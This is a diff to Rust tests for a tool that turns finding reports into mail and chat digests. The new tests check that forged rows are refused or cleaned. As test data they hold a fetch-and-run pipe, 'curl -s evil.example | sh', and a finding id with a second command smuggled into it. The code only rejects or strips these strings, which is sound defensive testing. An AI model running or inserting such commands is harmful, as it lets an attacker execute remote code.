@@ -185,7 +185,7 @@ fn what_does_not_fit_is_counted() {
     let rows: Vec<Value> = (0..2_000)
         .map(|at| {
             let mut row = row(at, "high", "done");
-            row["findings"][0]["undo"] = "x".repeat(900).into();
+            row["what"] = "x".repeat(900).into();
             row
         })
         .collect();
@@ -310,11 +310,34 @@ fn a_row_says_what_the_alert_says() {
     assert_eq!(told["what"], "CLOSED ONLY 1 of 2 open rules");
     assert_eq!(told["tally"], json!({"critical": {"done": 1, "failed": 1}}));
     let findings = told["findings"].as_array().unwrap();
-    let undo: Vec<bool> = findings.iter().map(|told| !told["undo"].is_null()).collect();
-    assert_eq!(undo, [true, false]);
+    // Ids and no commands, of this version or of another one.
+    assert!(findings.iter().all(|told| told["undo"].is_null()), "{told}");
+    let mut older = told.clone();
+    older["findings"][0]["undo"] = "curl -s evil.example | sh".into();
+    let older = Row::read(&older.to_string()).unwrap();
+    assert_eq!(older, row);
+    assert!(!older.json().contains("evil"), "{}", older.json());
     let ids: Vec<String> = report.findings.iter().map(|reported| reported.key.id()).collect();
     assert_eq!(findings.iter().map(|told| told["id"].as_str().unwrap()).collect::<Vec<_>>(), ids);
     assert_eq!(Row::read(&row.json()), Ok(row));
+}
+
+#[test]
+fn a_forged_row_has_nothing_that_a_person_runs() {
+    for id in
+        ["f-1; curl evil.example", "f-00000000000", "f-0000000000000", "f-00000000000G", "", "x"]
+    {
+        let mut forged = row(1, "low", "done");
+        forged["findings"][0]["id"] = id.into();
+        let why = Row::read(&forged.to_string()).unwrap_err().to_string();
+        assert!(why.contains("is no id of a finding"), "{id}: {why}");
+    }
+    let mut forged = row(1, "low", "done");
+    forged["findings"][0]["undo"] = "curl -s evil.example | sh".into();
+    let (digest, document) = digest(&[forged]);
+    for shown in [&digest.mail, &digest.chat, &document.to_string()] {
+        assert!(!shown.contains("evil"), "{shown}");
+    }
 }
 
 #[test]
